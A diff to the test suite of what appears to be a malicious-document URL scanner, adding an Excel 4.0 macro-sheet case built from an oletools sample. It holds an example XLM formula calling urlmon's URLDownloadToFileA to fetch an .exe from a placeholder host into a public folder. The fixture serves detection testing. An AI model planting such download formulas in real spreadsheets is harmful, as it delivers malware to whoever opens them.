@@ -60,8 +60,6 @@ KNOWN_MISS = {
     "rtf_template": "rtf.c reads URLs of HYPERLINK/INCLUDE* fields and linked OLE objects "
                     "only; the \\*\\template destination (RTF template injection) is "
                     "not read: no URL",
-    "xlm_formula_string": "xlm.c records no URL (no obj_url): a URL in a string of an Excel "
-                          "4.0 formula (CALL urlmon URLDownloadToFileA) is not found",
     "onenote_embedded_script": "a script carved out of a OneNote section (a .bat) is neither "
                                "read by the content layer nor given URLs by an analyser: no "
                                "URL (the same script as a MIME attachment is read as text)",
@@ -315,6 +313,18 @@ def xlsm_with_formula(formula):
     return buf.getvalue()
 
 
+def xls_with_alert(text):
+    """oletools' excel4_sample_macro.xls (BIFF8, an Excel 4.0 macro sheet
+    run by Auto_Open) with the 30 characters of its ALERT string constant
+    (a PtgStr) overwritten in place."""
+    data = bytearray(maldoc("oletools/xlm/excel4_sample_macro.xls"))
+    old = b"This is a sample Excel 4 macro"
+    at = data.find(old)
+    assert at > 0 and data[at - 3:at - 1] == bytes([0x17, len(old)]) and len(text) == len(old)
+    data[at:at + len(old)] = text.encode()
+    return bytes(data)
+
+
 def onenote_with_script():
     import make_documents
     return make_documents.onenote_with_script()
@@ -442,6 +452,11 @@ def build_cases():
                       'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
                       '"https://xlm-str.example/p.exe","c:\\users\\public\\p.exe",0,0)'))]),
         [("https://xlm-str.example/p.exe", [("book.xlsm", "object")])], {A})
+    c["xlm_formula_string_xls"] = (
+        message("xlmxls", "The macro sheet.\n",
+                [("book.xls", "application/vnd.ms-excel",
+                  xls_with_alert("get https://xlm-xls.example/p "))]),
+        [("https://xlm-xls.example/p", [("book.xls", "object")])], {A})
     c["onenote_embedded_script"] = (
         message("onenote", "Notes attached.\n",
                 [("notes.one", "application/onenote", onenote_with_script())]),
